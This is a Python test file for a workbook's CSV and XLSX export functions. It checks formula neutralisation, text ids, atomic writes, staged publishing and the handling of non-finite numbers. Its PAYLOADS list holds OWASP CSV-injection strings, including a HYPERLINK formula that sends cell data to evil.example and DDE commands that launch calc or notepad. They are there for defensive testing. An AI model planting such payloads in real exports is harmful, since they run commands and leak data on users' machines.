"""Every CSV/XLSX the workbook writes: no live formula, ids as typed, Excel-readable, never half-written."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest

from helpers import settings
from helpers.present import files

#: What a hostile export can carry in an id or a title (OWASP CSV injection cases).
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "-2+3", " =1+1", "\t=1+1", "＝1+1", "=cmd|' /C notepad'!'A1'"]


def _frame():
    return pd.DataFrame({"customer_id": [*PAYLOADS, "000123", "plain"],
                         "sales": [1.5] * (len(PAYLOADS) + 2), "count": range(len(PAYLOADS) + 2)})


def test_no_csv_cell_can_start_a_formula(tmp_path):
    path = files.write_csv(_frame(), tmp_path / "list.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the byte-order mark
    back = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    for shown, original in zip(back["customer_id"], _frame()["customer_id"], strict=True):
        assert not files.is_formula_like(shown), shown
        assert shown.lstrip("'") == original  # the text itself is kept, behind an apostrophe
    assert back["customer_id"].iloc[-2] == "000123" and back["customer_id"].iloc[-1] == "plain"
    assert back["sales"].iloc[0] == "1.5"  # numbers stay numbers


def test_no_xlsx_cell_is_a_formula_and_ids_stay_text(tmp_path):
    path = files.write_xlsx({"list": _frame()}, tmp_path / "list.xlsx", text_columns={"list": ["customer_id"]},
                            number_formats={"list": {"sales": "#,##0.00"}})
    with zipfile.ZipFile(path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
    from openpyxl import load_workbook

    sheet = load_workbook(path)["list"]
    ids = [sheet.cell(row=r, column=1) for r in range(2, len(PAYLOADS) + 4)]
    assert [c.value for c in ids] == _frame()["customer_id"].tolist()  # exact text, zeros kept
    assert all(c.data_type == "s" and c.number_format == "@" for c in ids)
    assert sheet["B2"].value == 1.5 and sheet["B2"].number_format == "#,##0.00"
    assert sheet.freeze_panes == "A2"


def test_a_failed_write_leaves_the_last_good_file(tmp_path):
    path = files.write_csv(pd.DataFrame({"a": ["first"]}), tmp_path / "x.csv")
    before = path.read_bytes()

    def broken(tmp):
        tmp.write_text("half")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        files.publish_file(path, broken)
    assert path.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["x.csv"]


def test_inside_a_run_exports_wait_for_the_report(tmp_path):
    target = tmp_path / "exports" / "list.csv"
    files.write_csv(pd.DataFrame({"a": ["old"]}), target)
    old_xlsx = files.write_xlsx({"s": pd.DataFrame({"a": [1]})}, tmp_path / "exports" / "list.xlsx")
    staging = tmp_path / "run" / "exports"
    with settings.override(export_staging=str(staging)):
        files.write_csv(pd.DataFrame({"a": ["new"]}), target)
        files.remove_file(old_xlsx)
    assert "old" in target.read_text(encoding="utf-8-sig") and old_xlsx.exists()  # a run that dies here loses nothing
    assert files.publish_staged(staging) == [target]
    assert "new" in target.read_text(encoding="utf-8-sig") and not old_xlsx.exists()
    assert files.publish_staged(tmp_path / "nothing-staged") == []


def test_a_number_that_is_not_finite_is_an_empty_cell(tmp_path):
    from openpyxl import load_workbook

    path = files.write_xlsx({"s": pd.DataFrame({"roi": [float("inf"), 2.5, float("nan")]})}, tmp_path / "x.xlsx")
    sheet = load_workbook(path)["s"]
    assert [sheet.cell(row=r, column=1).value for r in (2, 3, 4)] == [None, 2.5, None]
